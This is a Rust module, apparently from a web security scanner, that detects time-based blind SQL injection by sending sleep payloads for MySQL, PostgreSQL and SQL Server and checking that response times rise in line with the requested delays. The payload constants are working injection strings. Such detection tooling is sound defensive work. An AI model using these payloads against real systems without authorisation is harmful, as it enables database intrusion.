//! Delays: whether a value makes the database sleep, where answers show nothing of the statement.
//!
//! The proof is a line: the time of an answer grows by what the value says, with a slope of about one and almost no
//! scatter, for five delays in an order that does not rise, and again for five others. Between them goes the same text
//! without what leaves the literal, and takes no time. A slow or busy service draws no such line.

use std::time::Duration;

use tokio::time::Instant;

use crate::context::Context;
use crate::docket::{Docket, Trail};
use crate::finding::{Label, Site};
use crate::probe::point::{Point, Spot};
use crate::rule;
use crate::scope::SendError;

/// Tries every way to sleep once, and measures the first that seems to work.
pub(super) async fn delayed(context: &Context<'_>, docket: &mut Docket, point: &Point<'_>) -> Result<(), SendError> {
    let insertion = point.insertion();
    let site = Site { operation: &point.endpoint.id, insertion: &insertion };
    let is_number = point.is_number(context.surface()) || point.seed_text().parse::<u64>().is_ok();
    let is_text = point.is_text(context.surface());
    let numbers = NUMBERS.into_iter().filter(|_| is_number);
    for form in numbers.chain(TEXTS.into_iter().filter(|_| is_text)) {
        // A semicolon ends a cookie.
        if point.spot == Spot::Cookie && form.contains(';') {
            continue;
        }
        let mut trail = Trail::default();
        let (time, status) = timed(context, &mut trail, Label::Attack, point, &form.replace("{}", "0.4")).await?;
        if time >= SCREEN && is_line(context, &mut trail, point, form).await? {
            let what = "the time of the answer follows the delay that the database is told, ten times of ten";
            docket.prove(&rule::SQL_DELAYED, site, format!("`{}` is run as SQL: {what}", point.name), trail);
            return Ok(());
        }
        docket.withstand(&rule::SQL_DELAYED, site, "a delay in the value delays nothing", trail);
        // Whoever refuses the quote refuses it in every dialect.
        if matches!(status, 400 | 403 | 422) {
            return Ok(());
        }
    }
    Ok(())
}

/// Whether two rounds draw a line; a round that the weather spoiled is made again.
async fn is_line(context: &Context<'_>, trail: &mut Trail, point: &Point<'_>, form: &str) -> Result<bool, SendError> {
    let mut drawn = 0;
    for (at, delays) in ROUNDS.iter().cycle().take(ROUNDS.len() * 3).enumerate() {
        let mut points = Vec::new();
        let mut is_calm = true;
        for delay in delays {
            let text = form.replace("{}", &delay.to_string());
            let (time, _) = timed(context, trail, Label::Verify, point, &text).await?;
            points.push((*delay, time.as_secs_f64()));
            // The same words inside the literal.
            let (time, _) =
                timed(context, trail, Label::Control, point, &format!("x{}", text.replace(['\'', '"'], ""))).await?;
            is_calm &= time < CALM;
        }
        drawn += usize::from(is_calm && fits(&points));
        if drawn == ROUNDS.len() {
            return Ok(true);
        }
        // Where nothing fits three times, nothing will.
        if drawn == 0 && at > 1 {
            break;
        }
    }
    Ok(false)
}

/// Whether times follow delays: a slope of about one, and a correlation of more than 0.99.
fn fits(points: &[(f64, f64)]) -> bool {
    let count = f64::from(u32::try_from(points.len()).unwrap_or(u32::MAX));
    let mean = |of: fn(&(f64, f64)) -> f64| points.iter().map(of).sum::<f64>() / count;
    let (x, y) = (mean(|point| point.0), mean(|point| point.1));
    let sum = |of: &dyn Fn(f64, f64) -> f64| points.iter().map(|point| of(point.0 - x, point.1 - y)).sum::<f64>();
    let (xx, yy, xy) = (sum(&|dx, _| dx * dx), sum(&|_, dy| dy * dy), sum(&|dx, dy| dx * dy));
    points.len() > 4 && xy > 0.99 * (xx * yy).sqrt() && (0.8..1.25).contains(&(xy / xx))
}

async fn timed(
    context: &Context<'_>,
    trail: &mut Trail,
    label: Label,
    point: &Point<'_>,
    behind: &str,
) -> Result<(Duration, u16), SendError> {
    let call = point.text(context, &format!("{}{behind}", point.seed_text()));
    let start = Instant::now();
    let answer = context.send(trail, label, &call).await?;
    Ok((start.elapsed(), answer.meaning().as_u16()))
}

/// MySQL and MariaDB, PostgreSQL, SQL Server; a derived table is made once, however many rows there are.
const NUMBERS: [&str; 3] =
    ["-(SELECT*FROM(SELECT(SLEEP({})))a)", "-(SELECT 0 FROM pg_sleep({}))", ";WAITFOR DELAY '0:0:{}'--"];
const TEXTS: [&str; 4] = [
    "'+(SELECT*FROM(SELECT(SLEEP({})))a)+'",
    "'||(SELECT '' FROM pg_sleep({}))||'",
    "';WAITFOR DELAY '0:0:{}'--",
    "\"+(SELECT*FROM(SELECT(SLEEP({})))a)+\"",
];
const ROUNDS: [[f64; 5]; 2] = [[0.3, 0.0, 0.6, 0.15, 0.45], [0.1, 0.5, 0.0, 0.7, 0.25]];
const SCREEN: Duration = Duration::from_millis(380);
const CALM: Duration = Duration::from_millis(250);

#[cfg(test)]
mod tests {
    use super::{ROUNDS, fits};

    #[test]
    fn only_a_line_of_slope_one_fits() {
        let check = |of: &dyn Fn(f64) -> f64, expect: bool| {
            for delays in ROUNDS {
                let points: Vec<(f64, f64)> = delays.iter().map(|delay| (*delay, of(*delay))).collect();
                assert_eq!(fits(&points), expect, "{points:?}");
            }
        };
        check(&|delay| delay + 0.02, true);
        check(&|delay| delay * 1.1 + (delay * 40.0).sin() * 0.01, true);
        check(&|_| 0.4, false);
        check(&|delay| delay * 2.0, false);
        check(&|delay| if delay > 0.2 { 0.5 } else { 0.0 }, false);
        check(&|delay| 1.0 - delay, false);
        assert!(!fits(&[(0.0, 0.0), (1.0, 1.0)]), "two points are always on a line");
    }
}
